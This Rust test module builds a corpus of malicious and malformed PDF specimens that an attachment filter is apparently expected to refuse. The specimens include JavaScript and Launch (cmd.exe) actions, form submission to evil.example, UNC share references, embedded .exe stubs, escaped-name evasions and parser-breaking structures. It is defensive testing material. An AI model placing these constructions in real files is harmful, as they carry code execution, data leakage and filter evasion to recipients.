//! Documents that must not be kept.

use threadwell_domain::attachment::{ContentRefusal, FileKind};

use super::{Pdf, hidden, minimal, zlib};
use crate::corpus::Specimen;

pub(super) const ACTIVE: ContentRefusal = ContentRefusal::ActiveContent;
pub(super) const BUILT_WRONGLY: ContentRefusal = ContentRefusal::ArchiveRejected;

/// Actions, each as it is usually written.
const ACTIONS: [(&str, &str); 12] = [
    ("script", "<< /S /JavaScript /JS (app.alert(1)) >>"),
    ("launch", "<< /S /Launch /F (cmd.exe) >>"),
    ("form sent", "<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>"),
    ("data fetched", "<< /S /ImportData /F (x.fdf) >>"),
    ("file elsewhere", "<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
    ("file inside", "<< /S /GoToE /T << /R /C /N (x.pdf) >> >>"),
    ("film", "<< /S /Rendition /OP 0 >>"),
    ("old film", "<< /S /Movie >>"),
    ("sound", "<< /S /Sound /Sound 7 0 R >>"),
    ("address that is a script", "<< /S /URI /URI (javascript:app.alert(1)) >>"),
    ("address of a share", "<< /S /URI /URI (file://evil/share) >>"),
    ("address by number", "<< /S /URI /URI 7 0 R >>"),
];

/// All of them.
pub fn attacks() -> Vec<Specimen> {
    let mut all = Vec::new();
    let mut add = |name: String, bytes: Vec<u8>, why| {
        all.push(Specimen::refused(format!("PDF, {name}"), FileKind::Pdf, bytes, why));
    };
    for (name, action) in ACTIONS {
        for (place, pdf) in placed(action) {
            add(format!("{name} {place}"), pdf.finish(), ACTIVE);
            add(format!("{name} {place}, packed"), pdf.finish_packed(), ACTIVE);
        }
    }
    for (name, pdf) in by_opening() {
        add(format!("opens with {name}"), pdf.finish(), ACTIVE);
        add(format!("opens with {name}, packed"), pdf.finish_packed(), ACTIVE);
    }
    for (name, pdf) in other_activity() {
        add(name.to_owned(), pdf.finish(), ACTIVE);
        add(format!("{name}, packed"), pdf.finish_packed(), ACTIVE);
    }
    for (name, bytes, why) in
        hidden::attacks().into_iter().chain(packed_away()).chain(encrypted()).chain(broken())
    {
        add(name.to_owned(), bytes, why);
    }
    all
}

/// An action behind a link, with its names escaped, and in an object of its own.
fn placed(action: &str) -> Vec<(&'static str, Pdf)> {
    let escaped = action
        .replace("/JavaScript", "/J#61vaScr#69pt")
        .replace("/JS", "/#4a#53")
        .replace("/Launch", "/#4caunch");
    let annotation = |action: &str| {
        let mut pdf = Pdf::new("", "/Annots [6 0 R]");
        pdf.add(6, &format!("<< /Subtype /Link /Rect [1 2 3 4] /A {action} >>"))
            .add(7, "(javascript:app.alert(1))");
        pdf
    };
    let mut apart = annotation("8 0 R");
    apart.add(8, action);
    vec![("behind a link", annotation(action)), ("escaped", annotation(&escaped)), ("in an object", apart)]
}

fn by_opening() -> Vec<(&'static str, Pdf)> {
    let address = "<< /S /URI /URI (https://example.org) >>";
    let mut by_number = Pdf::new("/OpenAction 6 0 R", "");
    by_number.add(6, address);
    let mut twice = Pdf::new("/OpenAction 6 0 R", "");
    twice.add(6, "<< /S /GoTo /D [3 0 R /Fit] >>").add(6, address);
    let mut through = Pdf::new("/OpenAction 6 0 R", "");
    through.add(6, "7 0 R").add(7, address);
    vec![
        ("an address", Pdf::new(&format!("/OpenAction {address}"), "")),
        ("an address by number", by_number),
        ("an address behind a page of the same number", twice),
        ("an address through a number", through),
        (
            "a page and then an address",
            Pdf::new(&format!("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next {address} >>"), ""),
        ),
        ("printing", Pdf::new("/OpenAction << /S /Named /N /Print >>", "")),
        ("a script", Pdf::new("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "")),
        ("an action whose type stands elsewhere", Pdf::new("/OpenAction << /S 6 0 R >>", "")),
    ]
}

fn other_activity() -> Vec<(&'static str, Pdf)> {
    let mut embedded = Pdf::new("/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", "");
    embedded.add(6, "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>");
    embedded.stream(7, "/Type /EmbeddedFile", b"MZ");
    let mut attached = Pdf::new("", "/Annots [6 0 R]");
    attached.add(6, "<< /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 7 0 R >> >> >>");
    attached.stream(7, "", b"MZ");
    let reference = Pdf::new("", "/Annots [<< /Subtype /FileAttachment /FS (a.exe) >>]");
    let mut external = Pdf::new("", "");
    external.stream(6, "/F (\\\\\\\\evil\\\\share\\\\x)", b"");
    vec![
        ("scripts by name", Pdf::new("/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", "")),
        ("embedded file", embedded),
        ("attached file", attached),
        ("attached file elsewhere", reference),
        ("stream in another file", external),
        ("actions of the document", Pdf::new("/AA << /WC 6 0 R >>", "")),
        ("actions of a page", Pdf::new("", "/AA << /O << /S /URI /URI (https://example.org) >> >>")),
        ("form of another kind", Pdf::new("/AcroForm << /Fields [] /XFA 6 0 R >>", "")),
        ("rich media", Pdf::new("", "/Annots [<< /Subtype /RichMedia /RichMediaContent 6 0 R >>]")),
        ("three dimensions", Pdf::new("", "/Annots [<< /Subtype /3D /3DD 6 0 R >>]")),
    ]
}

/// Objects in streams of objects, as they are stored and as nobody stores them.
fn packed_away() -> Vec<(&'static str, Vec<u8>, ContentRefusal)> {
    let content = b"9 0 << /S /JavaScript /JS (app.alert(1)) >>";
    let packed = |entries: &str, data: &[u8]| {
        let mut pdf = Pdf::new("", "");
        pdf.stream(6, entries, data);
        pdf.finish()
    };
    let twice = zlib(&zlib(content));
    let in_string = b"9 8 (xx << /S /JavaScript /JS 1 >> )";
    vec![
        (
            "script packed without a type",
            packed("/N 1 /First 4 /Filter /FlateDecode", &zlib(content)),
            ACTIVE,
        ),
        ("script packed in the clear", packed("/Type /ObjStm /N 1 /First 4", content), ACTIVE),
        ("script in a packed text", packed("/Type /ObjStm /N 1 /First 0", in_string), ACTIVE),
        (
            "objects packed twice",
            packed("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", &twice),
            BUILT_WRONGLY,
        ),
        (
            "objects packed with two filters",
            packed("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Filter /LZWDecode", &zlib(content)),
            BUILT_WRONGLY,
        ),
        (
            "objects packed in another way",
            packed("/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", b"39203020>"),
            BUILT_WRONGLY,
        ),
        (
            "objects packed with a predictor",
            packed(
                "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
                &zlib(content),
            ),
            BUILT_WRONGLY,
        ),
        (
            "objects packed with an index that lies",
            packed("/Type /ObjStm /N 50 /First 4 /Filter /FlateDecode", &zlib(b"9 0 << >>")),
            BUILT_WRONGLY,
        ),
    ]
}

fn encrypted() -> Vec<(&'static str, Vec<u8>, ContentRefusal)> {
    let mut pdf = Pdf::new("", "");
    pdf.add(6, "<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -44 >>").trailer("/Encrypt 6 0 R");
    let mut direct = Pdf::new("", "");
    direct.trailer("/Encrypt << /Filter /Standard /V 1 >>");
    let mut unreadable = Pdf::new("", "");
    unreadable
        .stream(6, "/Type /ObjStm /N 9 /First 40 /Filter /FlateDecode", b"\x11\x22\x33")
        .trailer("/Encrypt 7 0 R");
    let why = ContentRefusal::Encrypted;
    vec![
        ("encrypted", pdf.finish(), why),
        ("encrypted, packed", pdf.finish_packed(), why),
        ("encrypted by a direct dictionary", direct.finish(), why),
        ("encrypted objects", unreadable.finish(), why),
    ]
}

fn broken() -> Vec<(&'static str, Vec<u8>, ContentRefusal)> {
    // Where the table begins does not depend on what the trailer says.
    let table = minimal().windows(5).position(|word| word == b"\nxref").unwrap() + 1;
    let mut cycle = Pdf::new("", "");
    cycle.trailer(&format!("/Prev {table}"));
    let mut near = Pdf::new("", "");
    near.trailer(&format!("/Prev {}", table - 1));
    let mut tree = Pdf::new("", "");
    tree.add(2, "<< /Type /Pages /Kids [6 0 R] /Count 9 >>")
        .add(6, "<< /Type /Pages /Kids [2 0 R] /Count 9 >>");
    let mut deep = Pdf::new("", "");
    deep.add(6, &format!("{}{}", "[".repeat(20_000), "]".repeat(20_000)));
    let mut open = Pdf::new("", "");
    open.add(6, "<< /A (never closed >>");
    let mut hexadecimal = Pdf::new("", "");
    hexadecimal.add(6, "<< /A <41 /JS> >>");
    vec![
        ("table that continues itself", cycle.finish(), BUILT_WRONGLY),
        ("table that continues a line before itself", near.finish(), BUILT_WRONGLY),
        ("page that is its own parent", tree.finish(), BUILT_WRONGLY),
        ("arrays without end", deep.finish(), BUILT_WRONGLY),
        ("text without end", open.finish(), BUILT_WRONGLY),
        ("name in a hexadecimal text", hexadecimal.finish(), BUILT_WRONGLY),
        ("cut off", minimal()[..300].to_vec(), ContentRefusal::KindMismatch),
    ]
}
